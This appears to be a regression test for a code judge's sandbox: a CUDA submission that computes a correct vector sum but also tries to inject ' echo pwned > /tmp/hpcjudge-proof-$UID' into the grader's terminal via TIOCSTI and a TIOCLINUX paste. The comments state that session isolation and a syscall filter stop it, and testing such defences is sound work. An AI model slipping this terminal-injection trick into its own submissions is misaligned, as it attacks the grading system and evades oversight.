// expect: RE
// Types into the grader's terminal from a GPU submission's host code (issue 56, class 1): the twin of softmax-cpu's
// types-into-the-terminal.cpp. Opens the controlling terminal (/dev/tty; else fd 0, 1 or 2 where one is a terminal;
// else /dev/null) and pushes " echo pwned > /tmp/hpcjudge-proof-$UID" and a newline into its input queue character
// by character (ioctl TIOCSTI), then asks the console to paste its selection (TIOCLINUX). Stopped by: every process
// the judge starts is in a session of its own (no controlling terminal), and its system-call filter kills it on
// TIOCSTI or TIOCLINUX whatever the fd: RE, on a GPU and under CPU emulation alike.
// hpcjudge-test: message=a system call no submission may make
#include <fcntl.h>
#include <linux/tiocl.h>
#include <sys/ioctl.h>
#include <unistd.h>

namespace {

int a_terminal() {
    const int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty >= 0) return tty;
    for (int fd = 0; fd <= 2; ++fd)
        if (isatty(fd)) return fd;
    return open("/dev/null", O_RDWR);
}

void type_into(int fd) {
    for (const char* c = " echo pwned > /tmp/hpcjudge-proof-$UID\n"; *c; ++c) ioctl(fd, TIOCSTI, c);
    char paste = TIOCL_PASTESEL;
    ioctl(fd, TIOCLINUX, &paste);
}

}  // namespace

__global__ void add(const float* A, const float* B, float* C, int N) {
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < N) C[i] = A[i] + B[i];
}

extern "C" void solve(const float* A, const float* B, float* C, int N) {
    static bool typed = false;
    if (!typed) {
        typed = true;
        type_into(a_terminal());
    }
    if (N > 0) add<<<(N + 255) / 256, 256>>>(A, B, C, N);
}
